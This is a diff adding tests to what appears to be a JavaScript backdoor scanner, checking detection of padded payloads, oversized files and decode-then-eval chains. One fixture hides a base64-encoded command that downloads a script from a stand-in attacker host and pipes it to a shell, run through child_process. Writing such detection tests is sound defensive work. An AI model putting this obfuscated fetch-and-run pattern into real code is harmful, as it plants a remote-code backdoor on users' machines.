@@ -192,6 +192,42 @@ test('a script with one 6,000-character line is scanned in full, exit 1', () => 
   assert.ok(!j.notes.some((n) => n.file === 'app.js' && /minified/.test(n.reason)));
 });
 
+test('a payload padded past max-file-size is still found (the file is read by the line checks, with a note); one past 64 MB is a high finding, never a silent pass', () => {
+  const d = tmp();
+  const payload =
+    'require("child_process").exec(Buffer.from("Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=","base64").toString())\n';
+  writeFileSync(join(d, 'index.js'), `// ${'x'.repeat(100)}\n`.repeat(30_000) + payload);
+  const j = json(['scan', '.'], d);
+  assert.equal(j.code, 1);
+  assert.ok(
+    j.findings.some((f) => f.file === 'index.js' && f.ruleId === 'backdoor.decode-exec'),
+    JSON.stringify(j),
+  );
+  assert.ok(j.notes.some((n) => n.file === 'index.js' && n.kind === 'partial' && /max-file-size/.test(n.reason)));
+  const huge = tmp();
+  writeFileSync(join(huge, 'bundle.js'), `var a = 1;\n`.repeat(6_200_000));
+  const h = json(['scan', '.'], huge);
+  assert.equal(h.code, 1);
+  assert.deepEqual(
+    h.findings.map((f) => f.ruleId),
+    ['scan.file-not-read'],
+  );
+});
+
+test('a chain of assignments from a decoded value (500 KB) is read in bounded time, not followed to the end of the file (was 56 s)', () => {
+  const d = tmp();
+  const lines = ['const a0 = atob(x);'];
+  for (let i = 1; i < 20_000; i++) lines.push(`const a${i} = a${i - 1} + 1;`);
+  writeFileSync(join(d, 'chain.js'), lines.join('\n') + '\n');
+  const t0 = Date.now();
+  const j = json(['scan', '.'], d);
+  assert.ok(Date.now() - t0 < 15_000, `${Date.now() - t0} ms`);
+  assert.deepEqual(j.findings, []);
+  // (near miss the other way: decoded and run a few lines later is still found)
+  writeFileSync(join(d, 'chain.js'), 'const p = atob(x);\nconst q = p;\n' + 'f();\n'.repeat(20) + 'eval(q);\n');
+  assert.ok(json(['scan', '.'], d).findings.some((f) => f.ruleId === 'backdoor.decode-exec'));
+});
+
 test('a payload inside a minified bundle is still found, with a note that code rules were skipped', () => {
   const d = tmp();
   const filler = Array.from({ length: 4000 }, (_, i) => `window.f${i}=(a)=>a*${i}+1`).join(';');
